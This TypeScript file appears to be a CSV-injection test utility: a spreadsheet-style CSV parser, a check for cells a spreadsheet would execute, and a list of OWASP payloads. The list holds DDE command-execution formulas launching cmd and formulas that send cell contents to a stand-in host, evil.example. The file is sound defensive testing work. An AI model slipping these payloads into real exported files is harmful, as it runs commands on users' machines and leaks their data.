/**
 * Reads a CSV the way a spreadsheet does with a given list separator: a cell that opens with `"` is quoted
 * (doubled quotes inside) up to its closing quote, anything after that up to the separator joins it; a `"`
 * elsewhere is a character; a line break outside quotes ends the row. Every cell, row by row.
 */
export function spreadsheetCells(text: string, separator: ',' | ';' | '\t'): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let i = 0
  while (i <= text.length) {
    let cell = ''
    if (text[i] === '"') {
      i += 1
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') { cell += '"'; i += 2 } else if (text[i] === '"') { i += 1; break } else cell += text[i++]
      }
    }
    while (i < text.length && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') cell += text[i++]
    row.push(cell)
    if (text[i] === separator) { i += 1; continue }
    if (text[i] === '\r' && text[i + 1] === '\n') i += 1
    i += 1
    rows.push(row)
    row = []
  }
  return rows.filter((cells) => cells.length > 1 || cells[0] !== '')
}

/** A cell a spreadsheet would run: it opens with = + - @, a tab or a line break and is not a plain negative number. */
export function runnableCell(cell: string): boolean {
  return /^[=+\-@\t\r\n]/.test(cell) && !/^-(?:\d+|\d{1,3}(?:,\d{3})+)(?:[.,]\d+)?$/.test(cell)
}

/**
 * The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection and the usual cheat
 * sheets): formulas opened by every formula character, hidden behind a number, after a `;` or a tab (a cell
 * of its own where the list separator is `;`), after a line break.
 */
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to see")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+thespanishinquisition(cmd|' /C calc'!A0)",
  "-2+3+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://x","y")',
  '-0=1+1',
  "=10+20+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n-3+3+cmd',
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '@HYPERLINK("http://x","y")',
  "Invoice 7;=cmd|' /C calc'!A0",
  "Invoice 8;-2+3+cmd|' /C calc'!A0",
  'Invoice 9\t@SUM(1+9)',
  'Invoice 10;+1+1',
  'Invoice 11\r\n=1+1',
]
